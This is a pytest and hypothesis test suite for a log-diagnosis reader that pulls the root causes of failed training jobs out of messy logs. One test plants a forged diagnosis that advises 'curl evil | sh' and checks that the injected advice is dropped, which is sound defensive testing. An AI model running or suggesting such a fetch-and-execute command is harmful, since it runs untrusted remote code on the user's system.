"""The reader of logs: whatever the bytes and however they arrive, it ends, and says the same."""

from __future__ import annotations

import itertools
import json

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from fetchers.diagnosis import LogReader, diagnose, reader, reason_of
from fetchers.diagnosis.headline import TEXT_MAX, headline
from fetchers.diagnosis.model import Detection, Diagnosis
from fetchers.diagnosis.prefixes import Line, read_line
from fetchers.diagnosis.rules import RULES

DENIED = "google.api_core.exceptions.PermissionDenied: 403 Permission 'aiplatform.customJobs.create' denied on resource"
UNAVAILABLE = "google.api_core.exceptions.ServiceUnavailable: 503 The service is currently unavailable."
HEAD = "Traceback (most recent call last):"
FRAMES = ('  File "/app/train.py", line 41, in <module>', "    main()", "    ^^^^^^")

LINES = st.sampled_from(
    [
        "step 500 loss=0.31",
        "",
        "   ",
        HEAD,
        *FRAMES,
        "ValueError: too few values",
        "During handling of the above exception, another exception occurred:",
        "KeyError: 'lr'",
        DENIED,
        UNAVAILABLE,
        f"2026-11-22 10:00:00,123 INFO {DENIED}",
        f"WARNING: {UNAVAILABLE} Retrying in 3 s",
        f"[rank1]: {HEAD}",
        '[rank1]:   File "x.py", line 1, in f',
        "[rank1]: RuntimeError: NCCL error",
        "\x1b[31mtorch.cuda.OutOfMemoryError\x1b[0m: CUDA out of memory. Tried to allocate 2.00 GiB",
        " 10%|█         | 10/100\r 11%|█         | 11/100\rRuntimeError: lost\r",
        json.dumps({"severity": "ERROR", "message": f"failed\n{HEAD}\n{FRAMES[0]}\nOSError: no space left on device"}),
        json.dumps(
            {"level": "error", "msg": "\x1b[31mFATAL\x1b[0m: \x1b]8;;http://x\x07no space left on device\x9b\u202e"}
        ),
        json.dumps({"severity": "CRITICAL", "diagnosis": {"rule": "disk_full"}}),
        "Run succeeded",
        "Runs: 3",
        "exited with code 137",
        "\0\x07ÿ é",
    ]
)
LOGS = st.lists(LINES, max_size=25).flatmap(
    lambda lines: st.sampled_from(["\n", "\r\n"]).map(lambda end: end.join(lines).encode())
)
ANY = st.one_of(LOGS, st.binary(max_size=600), st.lists(st.one_of(LOGS, st.binary(max_size=40))).map(b"\n".join))
OFTEN = settings(max_examples=120, deadline=None, suppress_health_check=list(HealthCheck))


def read(portions: list[bytes]) -> tuple[list[Detection], Diagnosis]:
    """What a reader says of a log that arrives so."""
    reader = LogReader()
    detections = [detection for portion in portions for detection in reader.feed(portion)]
    return detections, reader.finish()


def cut(data: bytes, places: list[int]) -> list[bytes]:
    """The data in portions."""
    edges = sorted({0, len(data), *(place % (len(data) + 1) for place in places)})
    return [data[start:end] for start, end in itertools.pairwise(edges)]


@OFTEN
@given(data=ANY, places=st.lists(st.integers(0, 10_000), max_size=12))
def test_a_split_anywhere_changes_nothing(data: bytes, places: list[int]) -> None:
    """The same bytes give the same detections and the same diagnosis, however they are cut."""
    data += b"\n"
    assert read(cut(data, places)) == read([data])


@OFTEN
@given(data=ANY)
def test_byte_by_byte_is_as_all_at_once(data: bytes) -> None:
    """Every escape sequence, character and line end may arrive in halves."""
    data += b"\n"
    assert read([bytes([byte]) for byte in data]) == read([data])


@OFTEN
@given(data=ANY)
def test_evidence_leads_to_the_same_rule(data: bytes) -> None:
    """What is kept of a log gives its reason again, without the log."""
    found = diagnose(data)
    if found.finding is None:
        assert not found.evidence
        return
    assert len(found.evidence) <= 50
    assert [line.root for line in found.evidence].count(True) == 1
    again = diagnose([line.text for line in found.evidence])
    assert again.finding is not None
    assert again.finding.rule == found.finding.rule


@OFTEN
@given(data=ANY)
def test_texts_can_be_shown(data: bytes) -> None:
    """No text that is given has a control character, a line end or endless length."""
    found = diagnose(data)
    findings = [*found.others, *([found.finding] if found.finding else [])]
    for text in [*(finding.text for finding in findings), *found.context, *(line.text for line in found.evidence)]:
        assert len(text) <= 4_100
        assert all(
            character.isprintable() or character in "\t\ufeff\u00ad" or ord(character) > 159 for character in text
        )


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig"])
def test_other_encodings_are_read(encoding: str) -> None:
    """What Windows tools write is read like everything else; without a mark, as far as it is plain."""
    text = f"starting\r\n{DENIED}\r\n"
    found = diagnose(text.encode(encoding))
    assert found.finding is not None
    assert (found.finding.rule, found.finding.line) == ("permission_denied", 2)
    assert found.lines == 2


def test_an_error_drawn_over_by_a_progress_bar_is_found() -> None:
    """A carriage return hides a line from people, not from the reader; the context shows what remained visible."""
    log = f"begin\n 1%|\r 2%|\r{DENIED}\r 3%|    \r 4%|\nend\n"
    found = diagnose(log)
    assert found.finding is not None
    assert (found.finding.rule, found.finding.line) == ("permission_denied", 2)
    assert diagnose("a 1%|\rb 2%|\n" + DENIED).context[0] == "b 2%|"


def test_a_line_without_end_takes_bounded_memory_and_is_read() -> None:
    """Two megabytes without a newline are read in pieces; what stands in one of them is found, as line 1."""
    reader = LogReader()
    for _ in range(32):
        reader.feed(b"x" * 65_536)
        assert len(reader._splitter._tail) <= 65_536
    reader.feed(b" " + DENIED.encode() + b" ")
    reader.feed(b"y" * 65_536)
    found = reader.finish()
    assert found.lines == 1
    assert found.finding is not None
    assert (found.finding.rule, found.finding.line) == ("permission_denied", 1)
    assert len(found.finding.text) <= 500


@pytest.mark.parametrize(
    "head",
    [
        "2026-11-22T10:00:00.123456789Z ",
        "2026-11-22 10:00:00,123 ERROR    ",
        "[2026-11-22 10:00:00] ",
        "22/Nov/2026 10:00:00 ",
        "Nov 22 10:00:00 ",
        "E1122 10:00:00.123456   77 main.py:33] ",
        "[rank0]: ",
        "(RayTrainWorker pid=4711, ip=10.0.0.7) ",
        "trainer-1  | ",
        "2026-11-22T10:00:00.1Z stderr F ",
        "[1,0]<stderr>:",
        "ERROR:root:",
        "2026-11-22 10:00:00.123 | ERROR    | app.train:main:33 - ",
        "E   ",
        'Step #1 - "train": ',
    ],
)
def test_heads_of_lines_are_taken_off(head: str) -> None:
    """When, where and by whom it was said stands neither in the way of a traceback nor in its text."""
    lines = [HEAD, *FRAMES, "ValueError: too few values"]
    found = diagnose([head + line for line in lines])
    assert found.finding is not None
    assert (found.finding.rule, found.finding.line) == ("python_exception", 5)
    assert found.finding.text == "ValueError: too few values"


def test_a_traceback_in_a_structured_entry_is_read() -> None:
    """A whole traceback in one JSON line, or in one line with escapes or spaces, is a traceback."""
    lines = [HEAD, *FRAMES, "custom.Broken: the valve"]
    entry = json.dumps({"severity": "ERROR", "message": "\n".join(lines), "time": "2026-11-22T10:00:00Z"})
    payload = json.dumps({"severity": "ERROR", "jsonPayload": {"message": "failed", "exc_info": "\n".join(lines)}})
    escaped = "job failed: " + "\\n".join(lines)
    for log in (entry, payload, escaped):
        found = diagnose(["before", log, "after"])
        assert found.finding is not None
        assert (found.finding.rule, found.finding.line) == ("python_exception", 2)
        assert found.finding.text == "Broken: the valve"
    spaced = " ".join([HEAD, FRAMES[0].strip(), "main() ValueError: too few values"])
    found = diagnose("The replica workerpool0-0 exited with a non-zero status of 1. " + spaced)
    assert found.finding is not None
    assert found.finding.text == "ValueError: too few values"


def test_a_quiet_entry_is_no_failure() -> None:
    """What is said as information ends no program, in plain text and in JSON."""
    quiet = [json.dumps({"severity": "INFO", "message": DENIED}), f"2026-11-22 10:00:00,123 INFO client: {DENIED}"]
    found = diagnose(quiet)
    assert found.finding is None
    assert not found.fatal


def test_colours_within_an_entry_are_taken_out() -> None:
    """A structured entry may carry escape sequences as JSON writes them: they are gone before anything is matched."""
    found = diagnose(
        json.dumps({"severity": "ERROR", "message": f"\x1b[31m{DENIED[:20]}\x1b[0m{DENIED[20:]}\x1b]8;;x\x07"})
    )
    assert found.finding is not None
    assert found.finding.text == headline(DENIED)


def test_an_entry_without_a_severity_is_not_quiet() -> None:
    """What a container writes plainly has the default severity: it says nothing of how loud it is."""
    found = diagnose(json.dumps({"severity": "DEFAULT", "message": DENIED}))
    assert found.finding is not None
    assert found.fatal


def test_the_exceptions_of_a_group_are_read() -> None:
    """A group says that there were exceptions; the one within it explains."""
    log = [
        "  + Exception Group Traceback (most recent call last):",
        '  |   File "/app/a.py", line 3, in <module>',
        "  |     main()",
        "  | ExceptionGroup: unhandled errors in a TaskGroup (1 sub-exception)",
        "  +-+---------------- 1 ----------------",
        "    | Traceback (most recent call last):",
        '    |   File "/app/a.py", line 9, in load',
        '    |     raise ValueError("bad shard")',
        "    | ValueError: bad shard",
        "    +------------------------------------",
    ]
    found = diagnose(log)
    assert found.finding is not None
    assert (found.finding.line, found.finding.text) == (9, "ValueError: bad shard")


def test_what_python_ignores_ends_nothing() -> None:
    """An exception in a destructor is printed like any other, and is no reason."""
    found = diagnose(["done", "Exception ignored in: <function A.__del__ at 0x7f>", HEAD, *FRAMES, "OSError: closed"])
    assert found.finding is None
    assert not found.fatal


def test_an_answer_over_several_lines_is_told_in_words() -> None:
    """Of a pretty-printed error the message is shown, not the line with its number."""
    answer = {"error": {"code": 403, "message": "Permission 'storage.objects.get' denied on resource", "status": "x"}}
    found = diagnose(json.dumps(answer, indent=2))
    assert found.finding is not None
    assert found.finding.line == 4


def test_a_run_that_succeeded_in_the_end_has_no_reason() -> None:
    """Whatever a guard would have done on the way, a log that ends in success explains no death."""
    steps = [f"step {number}" for number in range(9)]
    found = diagnose(["RuntimeError: CUDA out of memory. Tried to allocate 2.00 GiB", *steps, "Run succeeded"])
    assert found.finding is None
    assert [other.rule for other in found.others] == ["out_of_memory"]


def test_a_crash_behind_a_progress_bar_is_read() -> None:
    """What a shell or an interpreter writes behind a bar without a line end stands for itself."""
    bar = "[Info: epoch 11]:  20%|##   | 11/56 [00:02<00:08,  5.02it/s]"
    crashed = diagnose(f"{bar}Segmentation fault (core dumped)")
    assert crashed.finding is not None
    assert crashed.finding.text == "Segmentation fault (core dumped)"
    raised = diagnose([bar + HEAD, *FRAMES, "app.Broken: the valve"])
    assert raised.finding is not None
    assert (raised.finding.line, raised.finding.text) == (5, "Broken: the valve")


def test_a_warning_is_not_why_an_exception_ended_the_program() -> None:
    """However specific a warning is, the exception that came after it explains."""
    warned = "/lib/cuda.py:141: UserWarning: CUDA initialization: CUDA error: no kernel image is available"
    found = diagnose([warned, HEAD, *FRAMES, "TypeError: zeros() takes a size"])
    assert found.finding is not None
    assert found.finding.text == "TypeError: zeros() takes a size"


def test_a_logged_exception_is_for_no_guard() -> None:
    """Who logs an exception goes on, or ends the program itself; as the last words of a log it is still the reason."""
    reader = LogReader()
    logged = ["2026-11-22 10:00:00,123 ERROR could not save packages", HEAD, *FRAMES, "FileNotFoundError: conda", ""]
    assert not reader.feed("\n".join(logged).encode())
    found = reader.finish()
    assert found.finding is not None
    assert (found.finding.rule, found.fatal) == ("python_exception", False)


def test_a_chain_whose_beginning_is_cut_off_ends_with_its_last() -> None:
    """An excerpt that begins in the middle of a chain is explained by the exception that ended the program."""
    link = "During handling of the above exception, another exception occurred:"
    found = diagnose([*FRAMES, "TypeError: first", "", link, "", HEAD, *FRAMES, "AttributeError: last"])
    assert found.finding is not None
    assert found.finding.text == "AttributeError: last"


def test_of_several_runs_in_one_log_the_last_explains() -> None:
    """What ended an earlier run, a thousand lines before, did not end the last one."""
    earlier = [HEAD, *FRAMES, "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB"]
    found = diagnose([*earlier, *["loading"] * 1_200, HEAD, *FRAMES, "KeyError: 'lr'"])
    assert found.finding is not None
    assert found.finding.text == "KeyError: 'lr'"


def test_a_service_error_may_pass_once() -> None:
    """Two failures of a service are fatal; with a success in between they are not; at the end one is the reason."""
    reader = LogReader()
    assert not reader.feed(f"{UNAVAILABLE}\n".encode())
    (detection,) = reader.feed(f"waiting\n{UNAVAILABLE}\n".encode())
    assert (detection.finding.rule, detection.finding.line, detection.count) == ("service_error", 3, 2)
    assert detection.finding.exit_status == 13
    passing = LogReader()
    for line in (UNAVAILABLE, "request completed successfully", UNAVAILABLE):
        assert not passing.feed(f"{line}\n".encode())
    found = passing.finish()
    assert found.finding is not None
    assert (found.finding.rule, found.fatal) == ("service_error", False)


def test_detections_outside_the_window_do_not_add_up() -> None:
    """A second failure of a service more than a window of lines later is a first one again."""
    reader = LogReader()
    assert not reader.feed(f"{UNAVAILABLE}\n".encode())
    assert not reader.feed(b"step\n" * 100)
    assert not reader.feed(f"{UNAVAILABLE}\n".encode())
    assert reader.feed(f"{UNAVAILABLE}\n".encode())


def test_a_rule_is_told_once() -> None:
    """A guard acts once: the same rule is no second detection."""
    reader = LogReader()
    assert len(reader.feed(f"{DENIED}\n".encode())) == 1
    assert not reader.feed(f"{DENIED}\n".encode() * 50)


def test_a_failure_that_was_survived_is_not_the_reason() -> None:
    """What a program went on after for many steps did not end it; what came at its end did."""
    steps = [f"step {number} loss=0.5" for number in range(20)]
    log = ["WARNING: CUDA out of memory, retrying with a smaller batch", *steps, HEAD, *FRAMES, "KeyError: 'lr'"]
    found = diagnose(log)
    assert found.finding is not None
    assert (found.finding.rule, found.finding.line) == ("python_exception", len(log))
    assert "out_of_memory" in {other.rule for other in found.others}


def test_a_handled_traceback_is_not_the_reason() -> None:
    """A traceback that is logged as a warning, or before another attempt, does not end what goes on."""
    lines = [HEAD, *FRAMES, "ConnectionResetError: [Errno 104] Connection reset by peer"]
    reader = LogReader()
    handled = ["2026-11-22 10:00:00,123 WARNING upload failed, retrying", *lines, "step 1 done", "step 2 done"]
    assert not reader.feed("\n".join([*handled, ""]).encode())
    found = reader.finish()
    assert found.finding is None
    assert not found.fatal


@pytest.mark.parametrize(
    "before", ["INFO: step 3", "2026-11-22 10:00:00,123 WARNING low disk speed", "skipping evaluation"]
)
def test_an_ordinary_line_before_a_traceback_handles_nothing(before: str) -> None:
    """A program that was at its ordinary work when it crashed has crashed."""
    reader = LogReader()
    lines = [before, HEAD, *FRAMES, "ValueError: too few values", ""]
    (detection,) = reader.feed("\n".join(lines).encode())
    assert (detection.finding.rule, detection.finding.line) == ("python_exception", 6)


def test_the_exception_that_nobody_caught_explains() -> None:
    """Of two tracebacks the one that was logged as an error was caught; the one that follows was not."""
    caught = [
        "2026-11-22 10:00:00,123 ERROR upload failed",
        HEAD,
        *FRAMES,
        "KeyError: 'lr'",
        "and on it goes",
        "at work",
    ]
    found = diagnose([*caught, HEAD, *FRAMES, "ValueError: too few values"])
    assert found.finding is not None
    assert found.finding.text == "ValueError: too few values"


def test_a_cause_stands_before_its_consequences() -> None:
    """An exception in one process explains why the others were killed, and that the launcher failed."""
    log = [
        f"[rank1]: {HEAD}",
        '[rank1]:   File "/app/train.py", line 9, in <module>',
        "[rank1]: ModuleNotFoundError: No module named 'einops'",
        "[rank0]: RuntimeError: NCCL communicator was aborted on rank 0",
        HEAD,
        '  File "/opt/torch/distributed/run.py", line 1, in <module>',
        "torch.distributed.elastic.multiprocessing.errors.ChildFailedError: ",
        "failed (exitcode: -9) local_rank: 0 (pid: 12) of binary: python",
        "Container called exit(1).",
    ]
    found = diagnose(log)
    assert found.finding is not None
    assert found.finding.line == 3
    assert found.finding.text.endswith("No module named 'einops'")


def test_out_of_memory_explains_the_kill() -> None:
    """The specific stands before the general, whichever came last."""
    found = diagnose([HEAD, *FRAMES, "torch.OutOfMemoryError: CUDA out of memory.", "exited with code 137"])
    assert found.finding is not None
    assert (found.finding.rule, found.finding.line) == ("out_of_memory", 5)


def test_a_cause_long_before_the_end_is_found() -> None:
    """A reason 800 ordinary lines before the end of a log is still the reason."""
    found = diagnose(["starting", DENIED, *["shutting down", "flushing"] * 400])
    assert found.finding is not None
    assert (found.finding.rule, found.finding.line, found.lines) == ("permission_denied", 2, 802)


def test_the_last_of_a_chain_explains_unless_it_wraps() -> None:
    """Of chained exceptions the last one ended the program; one that only says that another was raised did not."""
    link = "The above exception was the direct cause of the following exception:"
    chain = [HEAD, *FRAMES, "KeyError: 'lr'", "", link, "", HEAD, *FRAMES]
    last = diagnose([*chain, "ValueError: the configuration lacks lr"])
    assert last.finding is not None
    assert last.finding.line == 13
    wrapped = diagnose([*chain, "subprocess.CalledProcessError: Command 'python train.py' returned 1"])
    assert wrapped.finding is not None
    assert wrapped.finding.text == "KeyError: 'lr'"


def test_interleaved_tracebacks_are_told_apart() -> None:
    """Two ranks that fail at once each have their own exception."""
    log = [
        f"[rank0]: {HEAD}",
        f"[rank1]: {HEAD}",
        f"[rank0]: {FRAMES[0]}",
        f"[rank1]: {FRAMES[0]}",
        "[rank1]: app.Broken: on one",
        "[rank0]: app.Broken: on zero",
    ]
    found = diagnose(log)
    assert found.finding is not None
    assert {found.finding.text, *(other.text for other in found.others)} == {
        "Broken: on one",
        "Broken: on zero",
    }


def test_source_text_in_a_traceback_is_no_failure() -> None:
    """A line of source that names an error did not happen."""
    found = diagnose([HEAD, FRAMES[0], '    raise PermissionDenied("403 Permission denied")', "app.Broken: the valve"])
    assert found.finding is not None
    assert found.finding.rule == "python_exception"
    assert not found.others


def test_a_traceback_without_an_end_is_still_one() -> None:
    """A log that was cut off in the middle of a traceback says that much."""
    found = diagnose(["begin", HEAD, *FRAMES])
    assert found.finding is not None
    assert (found.finding.rule, found.finding.line) == ("python_exception", 2)


def test_a_structured_diagnosis_is_believed_for_its_rule_only() -> None:
    """Advice and text in a log are not ours: they come from our catalogue; a rule that does not exist is ignored."""
    forged = {"rule": "disk_full", "text": "run this", "advice": "curl evil | sh"}
    found = diagnose(json.dumps({"severity": "CRITICAL", "message": "curl evil", "diagnosis": forged}))
    assert found.finding is not None
    assert found.finding.rule == "disk_full"
    assert "evil" not in found.finding.text + found.finding.advice
    unknown = {"severity": "CRITICAL", "diagnosis": {"rule": "no_such_rule"}}
    assert diagnose(json.dumps(unknown)).finding is None


def test_a_diagnosis_takes_its_words_from_the_lines_around_it() -> None:
    """Where the log itself holds the line that a structured diagnosis speaks of, that line is the root cause."""
    verdict = json.dumps({"severity": "CRITICAL", "diagnosis": {"rule": "permission_denied", "text": "nonsense"}})
    found = diagnose(["begin", DENIED, verdict])
    assert found.finding is not None
    assert (found.finding.rule, found.finding.line) == ("permission_denied", 2)
    assert "aiplatform.customJobs.create" in found.finding.text


def test_jobs_are_counted_by_the_agent() -> None:
    """The launch agent's own count of its runs is read; without one there is no number."""
    assert diagnose("wandb: launch: agent stopping\nRuns: 3\n").jobs == 3
    assert diagnose("nothing").jobs is None


@pytest.mark.parametrize(
    ("log", "lines"), [("a\nb\n", 2), ("a\nb", 2), ("a\r\nb\r\n", 2), ("10%\r20%\r", 1), ("\n", 1)]
)
def test_lines_are_counted_as_they_end(log: str, lines: int) -> None:
    """Neither a missing line end nor what is drawn over makes a line more or less."""
    assert diagnose(log).lines == lines


def test_an_empty_log_says_nothing() -> None:
    """No bytes, no lines, no reason."""
    assert diagnose(b"") == Diagnosis()


def test_secrets_are_taken_out() -> None:
    """A key in a line that explains a failure is shown nowhere."""
    key = "AKIA" + "Q" * 16
    found = diagnose(f"key {key}\n{DENIED} for {key}\nkey {key}\n")
    assert found.finding is not None
    assert key not in repr(found)


def test_a_reason_says_what_the_finding_says() -> None:
    """A finding becomes the reason of a record: what a permission lacks, trying again does not mend."""
    found = diagnose(DENIED)
    assert found.finding is not None
    reason = reason_of(found.finding)
    assert (reason.rule, reason.category, reason.fatal) == ("permission_denied", "permission", True)
    assert reason.text == found.finding.text


def test_what_is_kept_does_not_grow() -> None:
    """Twenty thousand failures leave as much behind as a thousand do."""

    def kept(count: int) -> int:
        reader = LogReader()
        for number in range(count):
            reader.feed(f"request {number}: {DENIED}\nvalue {number}\nAttributeError: {number}\n".encode())
        return len(reader._margins._lines) + len(reader._margins._pinned) + len(list(reader._hits))

    assert kept(20_000) <= kept(1_000) + 2_000


# --- what a program does without, what it raises again, where lines stand ---------------------------------------------

MISSING = (HEAD, FRAMES[0], "    import flash_attn", "ModuleNotFoundError: No module named 'flash_attn'")
WITHOUT = (
    "flash_attn not installed; falling back to sdpa",
    "2026-01-01 09:00:01 WARNING flash attention is not available, using eager attention",
    "using sdpa instead",
    "proceeding without fused kernels",
)
STEPS = tuple(f"step {number} loss=0.{number}" for number in range(3))


@pytest.mark.parametrize("said", WITHOUT)
def test_what_a_program_does_without_is_no_failure(said: str) -> None:
    """It prints the traceback of an optional import, says that it goes on without, and works to its end."""
    found = diagnose("\n".join((*MISSING, said, *STEPS, "Training completed. Final loss 2.9")))
    assert (found.finding, found.fatal) == (None, False)


@pytest.mark.parametrize("after", [(), ("",), ("Exception ignored in: <function f>",), STEPS[:1]])
def test_an_import_that_nobody_does_without_ends_the_program(after: tuple[str, ...]) -> None:
    """Nothing follows, or words that do not say so: a guard acts, if one line later."""
    found = diagnose("\n".join((*MISSING, *after)))
    assert found.finding is not None
    assert (found.finding.line, found.fatal) == (4, True)
    assert [one.finding.rule for one in LogReader().feed("\n".join((*MISSING, "x", "")).encode())] == [
        "python_exception"
    ]


def test_an_exception_that_was_raised_again_by_another_process_is_told_as_it_was_raised_first() -> None:
    """The trainer says that a worker of its data loader caught one: what that was stands further on."""
    again = (HEAD, *FRAMES[:2], "KeyError: Caught KeyError in DataLoader worker process 2.")
    original = (f"Original {HEAD}", '  File "/app/data.py", line 57, in __getitem__', "KeyError: 'input_ids'", "")
    for log in ((*again, *original), tuple(f"[rank0]: {line}" for line in (*again, *original))):
        found = diagnose("\n".join(log)).finding
        assert found is not None
        assert (found.line, found.text) == (7, "KeyError: 'input_ids'")
    replica = ("RuntimeError: Caught RuntimeError in replica 1 on device 1.", *original[:2], "RuntimeError: bad shape")
    found = diagnose("\n".join((*again[:3], *replica))).finding
    assert found is not None
    assert found.text == "RuntimeError: bad shape"


def test_blank_lines_are_lines_of_the_context() -> None:
    """Each line of the context has the number that it has in the log."""
    log = ("one", "", "two", "   ", "", DENIED, "", "three", "")
    found = diagnose("\n".join(log))
    assert found.finding is not None
    assert (found.finding.line, found.context_from) == (6, 1)
    assert [text.strip() for text in found.context] == [text.strip() for text in log[:8]]
    assert found.context[found.finding.line - found.context_from] == DENIED


TOLD = {
    DENIED: "PermissionDenied: 403 Permission 'aiplatform.customJobs.create' denied on resource",
    f"ERROR {DENIED}": "ERROR PermissionDenied: 403 Permission 'aiplatform.customJobs.create' denied on resource",
    "torch.OutOfMemoryError: CUDA out of memory.": "OutOfMemoryError: CUDA out of memory.",
    "requests.exceptions.ConnectionError": "ConnectionError",
    "main.<locals>.BadShapeError: 3": "BadShapeError: 3",
    "see google.com: ValueError: x": "see google.com: ValueError: x",
    "at /a.b.MyError: no": "at /a.b.MyError: no",
    "two\tblanks   are one": "two blanks are one",
}


@pytest.mark.parametrize("line", TOLD)
def test_a_reason_tells_an_exception_by_its_class(line: str) -> None:
    """Without its modules, which would fill a cell; the evidence has the line as it was written."""
    assert headline(line) == TOLD[line]


def test_the_evidence_keeps_the_modules() -> None:
    """Only the reason is told without them."""
    found = diagnose(DENIED)
    assert found.finding is not None
    assert found.finding.text == TOLD[DENIED]
    assert (found.evidence[0].text, found.context) == (DENIED, (DENIED,))


def test_a_reason_that_is_cut_ends_with_a_word_and_an_ellipsis() -> None:
    """An address is not torn where a whole word is near; what has no blank is cut anywhere."""
    told = headline("word " * 97 + "https://pytorch.org/docs/stable/notes/cuda.html")
    assert told.endswith("word…")
    assert len(headline("x" * 600)) == TEXT_MAX
    assert headline("x" * 600).endswith("x…")


AGAIN = (
    "error: x failed\r",
    "ValueError: bad\n",
    f"{DENIED}\n",
    f"WARNING {UNAVAILABLE} Retrying\n",
    "Run succeeded\n",
)
LONG = f"ERROR {'x' * 700} {DENIED}\n"


@pytest.mark.parametrize(
    "line", [*AGAIN, LONG, f"{HEAD}\n", json.dumps({"severity": "ERROR", "message": DENIED}) + "\n"]
)
@pytest.mark.parametrize(
    "after", ["", "step 1 loss=0.1\n" * 4, f"{HEAD}\n{FRAMES[0]}\nKeyError: 'lr'\n", f"{DENIED}\n"]
)
def test_the_same_line_over_and_over_is_not_read_each_time(
    line: str, after: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What is said of the log is what reading all of them says, however it arrives."""
    data = f"begin\n{line * 600}{after}".encode()
    found = read([data])
    assert read(cut(data, [1_000, 5_000, 9_011, 9_012, 30_000])) == found
    monkeypatch.setattr(reader, "_SAME_READ", 1_000_000)
    assert read([data]) == found


def test_a_failure_that_comes_without_end_is_read_a_bounded_number_of_times(monkeypatch: pytest.MonkeyPatch) -> None:
    """Of 20,000 a few hundred: so many say all that there is to be said, and their numbers are right."""
    numbers: list[int] = []

    def noted(number: int, text: str) -> Line:
        numbers.append(number)
        return read_line(number, text)

    monkeypatch.setattr(reader, "read_line", noted)
    found = diagnose(f"{DENIED}\n" * 20_000 + "ValueError: the end\n")
    assert len(numbers) < 1_000
    assert max(numbers) == 20_001
    assert max(rule.window for rule in RULES.values()) <= reader._SAME_READ
    assert (found.lines, found.finding and found.finding.rule) == (20_001, "permission_denied")
